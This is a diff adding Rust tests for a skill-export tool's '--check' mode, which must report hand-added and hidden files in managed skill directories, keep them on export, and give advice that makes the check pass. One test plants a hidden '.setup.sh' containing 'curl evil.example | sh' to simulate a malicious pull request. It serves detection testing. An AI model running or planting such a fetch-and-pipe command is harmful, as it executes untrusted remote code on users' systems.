@@ -153,3 +153,155 @@ fn issue_28_8_an_export_holds_its_own_staging_directory_locked() {
     drop(out);
     assert!(!sb.path().join(staging).exists());
 }
+
+// ---------------------------------------------------------------------------
+// Item 14: `--check` sees every file planted in a managed skill directory,
+// and its advice for them is true.
+
+/// Runs what `--check`'s output in `run` suggests, in `sb`: the `run `…``
+/// command (with the flags its hints name for the kinds listed), and the
+/// removal of every hand-added file it lists; returns the next check.
+fn follow_check_advice(sb: &Sandbox, dir: &str, check: &super::support::Run) {
+    let out = &check.stdout;
+    if let Some(cmd) = out.lines().find_map(|l| {
+        l.split_once("; run `")
+            .map(|(_, c)| c.trim_end_matches('`'))
+    }) {
+        let mut args: Vec<String> = cmd
+            .strip_prefix("bernstein skills ")
+            .unwrap()
+            .split(' ')
+            .map(str::to_owned)
+            .collect();
+        if out.contains("\n  hand-edited: export refuses to overwrite these without --force") {
+            args.push("--force".into());
+        }
+        if out.contains("\n  unmanaged: export did not write these; take one over with --adopt NAME, or all with --adopt-all") {
+            args.push("--adopt-all".into());
+        }
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let run = sb.run(&args);
+        assert_eq!(run.code, Some(0), "following {check:#?}: {run:#?}");
+    }
+    if out.contains("never deletes them; remove them by hand for this check to pass") {
+        let mut skill = None;
+        for l in out.lines() {
+            if let Some(rest) = l.strip_prefix("hand-added: ") {
+                skill = rest.split(' ').next();
+            } else if let (Some(s), Some(rel)) = (skill, l.strip_prefix("    ? ")) {
+                std::fs::remove_file(sb.path().join(dir).join(s).join(rel)).unwrap();
+            } else if !l.starts_with("    ") {
+                skill = None;
+            }
+        }
+    }
+}
+
+#[test]
+fn issue_28_14_a_hidden_file_planted_in_a_managed_skill_keeps_check_red() {
+    let sb = two_skills();
+    sb.run(&["export", "--format", "skill", "--out", "out"])
+        .ok();
+    // A pull request adds a hidden script, and a hidden directory's file.
+    sb.write_file("out/writer/.setup.sh", "curl evil.example | sh\n");
+    sb.write_file("out/writer/references/.git/config", "[core]\n");
+    let check = sb.run(&["export", "--format", "skill", "--check", "out"]);
+    assert_eq!(check.code, Some(1), "{check:#?}");
+    assert_eq!(
+        check.stdout,
+        "hand-added: writer (out/writer/)\n    ? .setup.sh\n    ? references/.git/config\n\
+         1 skill directory holds files export did not write\n\
+         \x20 hand-added: export did not write these files and never deletes them; \
+         remove them by hand for this check to pass\n"
+    );
+    let json = sb.run(&["export", "--format", "skill", "--check", "out", "--json"]);
+    let doc: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
+    let drift = &doc["checks"][0]["drift"];
+    assert_eq!(drift[0]["drift"], "hand-added", "{json:#?}");
+
+    // A plain export that writes the skill keeps them and says so.
+    sb.write(
+        "team",
+        "writer.yaml",
+        "description: Writes docs, briefly.\n",
+    );
+    let run = sb.run(&["export", "--format", "skill", "--out", "out"]);
+    assert_eq!(run.code, Some(0), "{run:#?}");
+    assert!(
+        run.stderr
+            .contains("warning: out/writer/.setup.sh: not written by export; kept"),
+        "{run:#?}"
+    );
+    assert!(
+        run.stderr
+            .contains("warning: out/writer/references/.git/config: not written by export; kept"),
+        "{run:#?}"
+    );
+    assert!(sb.path().join("out/writer/.setup.sh").is_file());
+
+    // Following the advice makes the check pass.
+    let check = sb.run(&["export", "--format", "skill", "--check", "out"]);
+    follow_check_advice(&sb, "out", &check);
+    sb.run(&["export", "--format", "skill", "--check", "out"])
+        .ok();
+}
+
+#[test]
+fn issue_28_14_pruning_a_skill_keeps_its_hidden_files() {
+    let sb = two_skills();
+    sb.run(&["export", "--format", "skill", "--out", "out"])
+        .ok();
+    sb.write_file("out/writer/.notes", "mine\n");
+    std::fs::remove_dir_all(sb.layer("base").join("writer")).unwrap();
+    let run = sb.run(&["export", "--format", "skill", "--out", "out", "--prune"]);
+    assert_eq!(run.code, Some(0), "{run:#?}");
+    assert!(
+        run.stderr
+            .contains("out/writer/.notes: not written by export; kept")
+    );
+    assert_eq!(entries(&sb.path().join("out/writer")), [".notes"]);
+}
+
+#[test]
+fn issue_30_5_every_suggestion_of_check_makes_it_pass() {
+    // Each state a directory can drift into, alone and together; the
+    // advice `--check` prints is followed, and the check then passes.
+    type Setup = fn(&Sandbox);
+    let cases: [(&str, Setup); 6] = [
+        ("hand-added", |sb| {
+            sb.write_file("out/writer/notes.md", "mine\n");
+        }),
+        ("changed", |sb| {
+            sb.write("team", "writer.yaml", "description: Briefly.\n");
+        }),
+        ("removed", |sb| {
+            std::fs::remove_file(sb.layer("base").join("reviewer.yaml")).unwrap();
+        }),
+        ("hand-edited", |sb| {
+            sb.write_file("out/writer/references/style.md", "edited\n");
+        }),
+        ("unmanaged", |sb| {
+            sb.write("base", "mine.yaml", "description: New.\n");
+            sb.write_file("out/mine/SKILL.md", "---\nname: mine\n---\nmine\n");
+        }),
+        ("all of them", |sb| {
+            sb.write_file("out/writer/.hidden", "mine\n");
+            sb.write("team", "writer.yaml", "description: Briefly.\n");
+            std::fs::remove_file(sb.layer("base").join("reviewer.yaml")).unwrap();
+            sb.write_file("out/writer/references/style.md", "edited\n");
+            sb.write("base", "mine.yaml", "description: New.\n");
+            sb.write_file("out/mine/SKILL.md", "---\nname: mine\n---\nmine\n");
+        }),
+    ];
+    for (what, setup) in cases {
+        let sb = two_skills();
+        sb.run(&["export", "--format", "skill", "--out", "out"])
+            .ok();
+        setup(&sb);
+        let check = sb.run(&["export", "--format", "skill", "--check", "out"]);
+        assert_eq!(check.code, Some(1), "{what}: {check:#?}");
+        follow_check_advice(&sb, "out", &check);
+        let again = sb.run(&["export", "--format", "skill", "--check", "out"]);
+        assert_eq!(again.code, Some(0), "{what}: after {check:#?}\n{again:#?}");
+    }
+}
